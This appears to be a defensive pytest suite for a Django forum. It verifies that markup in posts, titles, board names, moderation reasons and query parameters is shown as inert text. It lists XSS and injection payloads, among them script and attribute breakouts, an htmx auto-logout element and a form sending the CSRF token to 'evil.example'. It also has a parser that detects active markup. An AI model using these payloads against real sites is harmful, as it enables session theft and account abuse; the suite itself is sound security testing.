"""Markup in texts, titles, names and reasons is shown as text on every page."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.test import Client
from django.utils import timezone
from django.utils.html import escape

from forum.actions.bulk_import import ImportedPost, import_thread
from forum.actions.posts import edit_post, reply_to
from forum.actions.threads import start_thread
from forum.errors import UserError
from forum.models import Board, Category, Post, Thread, User
from forum.moderation.actions.locking import lock_thread
from forum.moderation.actions.post_hiding import hide_post
from forum.moderation.actions.suspensions import suspend_person
from tests.corpora import corpus, data_json
from tests.html_check import assert_safe

ATTACKS: dict[str, list[str]] = data_json("attacks.json")
HOSTILE = ATTACKS["mixed"]
# Texts that try to break out of attributes, the textarea, the title or templates.
BREAKING_OUT = [
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    '"><svg onload=alert(1)>',
    "{{ 7|add:7 }}{% debug %}{0.__class__}",
    "<div hx-get=/accounts/logout/ hx-trigger=load>x</div>",
    "<form id=reply-1 action=//evil.example><input name=csrfmiddlewaretoken form=reply-1></form>",
    "&lt;img src=x onerror=alert(1)&gt; &amp;lt;b&amp;gt;",
    "%253Cscript%253Ealert(1)%253C/script%253E",
]
MARKUP = [text for text in (*HOSTILE, *BREAKING_OUT) if "<" in text or '"' in text]
WORST = BREAKING_OUT[:5]
CORPORA = ("bleach", "bleach_strings", "dompurify", "lxml_html_clean", "owasp_filter_evasion")

ALLOWED_ADDRESS = re.compile(r"(?:https?://|mailto:|/(?!/)|#|\?|$)", re.IGNORECASE)
# Allowed images: static files, and the image that marks a page as read without scripts.
ALLOWED_IMAGE = re.compile(r"/static/|/t/[0-9]+/served/\?page=[\w.:-]+$")
ADDRESSES = {"href", "src", "action", "formaction", "poster", "data", "cite", "hx-get", "hx-post"}
FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "math", "style", "template", "video"}


class Hazards(HTMLParser):
    """Elements and attributes in a page that could do something and are not the forum's own."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = {name: value or "" for name, value in attrs}
        if tag in FORBIDDEN_TAGS:
            self.found.append(tag)
        is_data = attributes.get("type") in {"application/json", "application/ld+json"}
        if tag == "script" and not (is_data or attributes.get("src", "").startswith("/")):
            self.found.append(f"script {attributes}")
        if tag == "img" and not ALLOWED_IMAGE.match(attributes.get("src", "")):
            self.found.append(f"img {attributes}")
        if tag == "meta" and "http-equiv" in attributes:
            self.found.append(f"meta {attributes}")
        for name, value in attributes.items():
            if name.startswith("on") or name in {"style", "srcdoc", "hx-vals"} or "hx-on" in name:
                self.found.append(f"{tag} {name}={value}")
            if name in ADDRESSES and not ALLOWED_ADDRESS.match(value):
                self.found.append(f"{tag} {name}={value}")


def assert_inert(html: str, *words: str) -> None:
    """Assert that a page has no active markup, and that `words` are in it as text only."""
    assert Hazards(html).found == []
    for text in words:
        assert text not in html, text


def open_page(client: Client, address: str, status: int = 200) -> str:
    response = client.get(address)
    assert response.status_code == status, address
    return str(response.content.decode())


def test_check_finds_active_markup() -> None:
    flagged = [text for text in MARKUP if Hazards(f"<p>{text}</p>").found]
    assert len(flagged) > len(MARKUP) / 2
    with pytest.raises(AssertionError):
        assert_inert("<p><b onclick=alert(1)>x</b></p>")


def imported_posts(author: User, texts: list[str]) -> list[ImportedPost]:
    now = timezone.now()
    posts = [ImportedPost(0, None, author, "The first.", now)]
    posts += [ImportedPost(n, 0, author, text, now) for n, text in enumerate(texts, 1)]
    return posts


def payloads(name: str) -> Iterator[str]:
    for each in json.loads(corpus(f"xss/{name}.json").read_text(encoding="utf-8")):
        yield each if isinstance(each, str) else str(each["payload"])


def storable(texts: list[str]) -> list[str]:
    """Return the texts that can be posted: not blank, not too long."""
    from forum.actions.posts import rendered_post

    postable = []
    for text in texts:
        try:
            rendered_post(text)
        except UserError:
            continue
        postable.append(text)
    return postable


@pytest.mark.slow
@pytest.mark.parametrize("name", [*ATTACKS, *CORPORA])
def test_posts_contain_no_active_markup(
    board: Board, alice: User, as_bob: Client, name: str
) -> None:
    own_attacks = [*ATTACKS.get(name, []), *(BREAKING_OUT if name == "mixed" else [])]
    texts = storable(own_attacks or list(payloads(name)))
    assert texts
    for start in range(0, len(texts), 190):
        batch = texts[start : start + 190]
        thread = import_thread(board, title="Markup", posts=imported_posts(alice, batch))
        assert_inert(open_page(as_bob, thread.get_absolute_url()))
        later = as_bob.get(
            f"{thread.get_absolute_url()}?after=p{thread.last_post_id - 5}",
            headers={"hx-request": "true"},
        )
        assert_inert(later.content.decode())
        for post in Post.objects.filter(thread=thread):
            assert_safe(post.html)
    assert_inert(open_page(as_bob, "/u/alice/"))
    assert_inert(open_page(as_bob, "/"))
    assert_inert(open_page(as_bob, board.get_absolute_url()))


@pytest.mark.parametrize("text", WORST)
def test_every_page_about_a_post_shows_markup_as_text(
    opening: Post, alice: User, bob: User, as_alice: Client, as_carol: Client, text: str
) -> None:
    post = reply_to(opening, author=alice, source=f"Before. {text}")
    reply_to(post, author=bob, source="An answer, so that edits are kept.")
    edit_post(post, actor=alice, source=f"After. {text}")
    for page in ("edit", "history", "menu", "reply", "delete"):
        html = open_page(as_alice, f"/p/{post.pk}/{page}/")
        assert_inert(html, *([text] if page != "reply" else []))
    for do in ("preview", ""):
        data = {"source": text + "x" * (0 if do else 20_001), "do": do}
        for headers in ({}, {"hx-request": "true"}):
            response = as_alice.post(f"/p/{opening.pk}/reply/", data, headers=headers)
            assert response.status_code == (200 if do else 422)
            assert_inert(response.content.decode())
    assert_inert(open_page(as_alice, f"/p/{post.pk}/reply/?quote=1"))
    for page in ("", f"{post.pk}/change/", "?q=Before"):
        assert_inert(open_page(as_carol, f"/admin/forum/post/{page}"), text)
    assert_inert(open_page(as_carol, f"/moderate/post/hide/?id={post.pk}"), text)
    assert_inert(open_page(as_carol, f"/p/{post.pk}/hide/"), text)


def test_titles_show_markup_as_text(
    board: Board, alice: User, as_alice: Client, as_carol: Client
) -> None:
    titles = [title for title in MARKUP if len(title) <= 120]
    threads = [start_thread(board, author=alice, title=title, source="x") for title in titles]
    for thread in threads[-3:]:
        post = Post.objects.get(thread=thread)
        for page in (
            thread.get_absolute_url(),
            *(f"/p/{post.pk}/{page}/" for page in ("history", "menu", "delete", "reply")),
        ):
            assert_inert(open_page(as_alice, page), thread.title)
        assert_inert(open_page(as_carol, f"/t/{thread.pk}/lock/"), thread.title)
        assert_inert(open_page(as_carol, f"/moderate/thread/lock/?id={thread.pk}"), thread.title)
        assert_inert(open_page(as_carol, f"/admin/forum/thread/{thread.pk}/change/"), thread.title)
    for page in ("/", board.get_absolute_url(), "/u/alice/"):
        assert_inert(open_page(as_alice, page), *titles)
    assert_inert(open_page(as_carol, "/admin/forum/thread/"), *titles)
    assert escape(threads[-1].title) in open_page(as_alice, "/")


@pytest.mark.parametrize("reason", WORST[::2])
def test_reasons_show_markup_as_text(
    reply: Post, dan: User, alice: User, carol: User, visitor: Client, as_carol: Client, reason: str
) -> None:
    arguments: dict[str, Any] = {"actor": carol, "reason": reason, "note": reason}
    hidden = hide_post(reply, **arguments)
    lock_thread(reply.thread, **arguments)
    suspend_person(alice, **arguments)
    thread = open_page(visitor, reply.thread.get_absolute_url())
    assert_inert(thread, reason)
    assert escape(reason) in thread
    assert_inert(open_page(visitor, f"/p/{reply.pk}/", 410), reason)
    assert_inert(open_page(visitor, "/u/alice/"), reason)
    as_alice = Client()
    as_alice.force_login(alice)
    response = as_alice.post(f"/p/{reply.parent_id}/reply/", {"source": "Words."})
    assert_inert(response.content.decode(), reason)
    for page in (
        *("moderationaction/", f"moderationaction/{hidden.pk}/change/"),
        *(f"post/{reply.pk}/change/", f"thread/{reply.thread_id}/change/"),
        *(f"user/{alice.pk}/change/", "user/"),
    ):
        assert_inert(open_page(as_carol, f"/admin/forum/{page}"), reason)
    lift = f"/moderate/person/lift/?id={alice.pk}"
    for page in (f"/p/{reply.pk}/unhide/", f"/t/{reply.thread_id}/unlock/", "/u/alice/lift/", lift):
        assert_inert(open_page(as_carol, page), reason)


def test_boards_show_markup_as_text(as_alice: Client, as_erin: Client, alice: User) -> None:
    for n, text in enumerate(WORST[:3]):
        category = Category.objects.create(name=text)
        board = Board.objects.create(
            category=category, name=text, slug=f"b{n}", description=f"{text} indeed"
        )
        thread = start_thread(board, author=alice, title="Plain", source="Words.")
        for page in (f"/b/b{n}/", f"/b/b{n}/new/", thread.get_absolute_url()):
            assert_inert(open_page(as_alice, page), text)
        for page in (f"board/{board.pk}/change/", f"board/{board.pk}/delete/"):
            assert_inert(open_page(as_erin, f"/admin/forum/{page}"), text)
    assert_inert(open_page(as_alice, "/"), *WORST[:3])
    assert_inert(open_page(as_erin, "/admin/forum/board/"), *WORST)
    assert_inert(open_page(as_erin, "/admin/forum/category/"), *WORST)


@pytest.mark.slow
@pytest.mark.parametrize("text", [*WORST[::2], "javascript:alert(1)", "//evil.example"])
def test_query_parameters_are_shown_as_text(
    thread: Thread, visitor: Client, as_carol: Client, text: str
) -> None:
    forbidden = [text] if set(text) & set('<"') else []
    query = dict.fromkeys(("q", "next", "after", "before", "at", "e", "o", "words"), text)
    for page in ("/", "/accounts/login/", "/accounts/signup/", "/u/alice/", "/nowhere/"):
        assert_inert(visitor.get(page, query).content.decode(), *forbidden)
    for page in ("/b/gardens/", thread.get_absolute_url()):
        assert_inert(visitor.get(page, query).content.decode(), *forbidden)
    assert_inert(visitor.get(f"/nowhere/{text}").content.decode(), *forbidden)
    for page in ("post", "thread", "user", "moderationaction"):
        html = as_carol.get(f"/admin/forum/{page}/", {"q": text}, follow=True).content.decode()
        assert_inert(html, *forbidden)
    response = visitor.post("/accounts/login/", {"login": text, "password": text})
    assert_inert(response.content.decode(), *forbidden)


@pytest.mark.parametrize("name", MARKUP)
def test_username_cannot_contain_markup(name: str) -> None:
    with pytest.raises(ValidationError):
        User(username=name[:30]).clean_fields(exclude=["password", "email"])


class EditForm(HTMLParser):
    """The text in a page's textarea, as a browser would send it back."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.inside = False
        self.text = ""
        self.base = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.inside = tag == "textarea"
        if tag == "input" and dict(attrs).get("name") == "base_revision":
            self.base = dict(attrs)["value"] or ""

    def handle_endtag(self, tag: str) -> None:
        self.inside = False

    def handle_data(self, data: str) -> None:
        if self.inside:
            self.text += data


def test_saving_five_times_without_a_change_changes_nothing(
    opening: Post, alice: User, as_alice: Client
) -> None:
    source = "\n\n".join(["\n  Before.", *HOSTILE, *BREAKING_OUT, "&amp; &lt; \u2028 é\tend \n"])
    post = reply_to(opening, author=alice, source=source)
    post.refresh_from_db()
    source, html = post.source, post.html
    for _ in range(5):
        form = EditForm(open_page(as_alice, f"/p/{post.pk}/edit/"))
        # Browsers drop the first line break after the tag.
        text = form.text.removeprefix("\n").replace("\n", "\r\n")
        response = as_alice.post(
            f"/p/{post.pk}/edit/", {"source": text, "base_revision": form.base}
        )
        assert response.status_code == 302
    post.refresh_from_db()
    assert post.source == source
    assert post.html == html
    assert post.edited_at is None
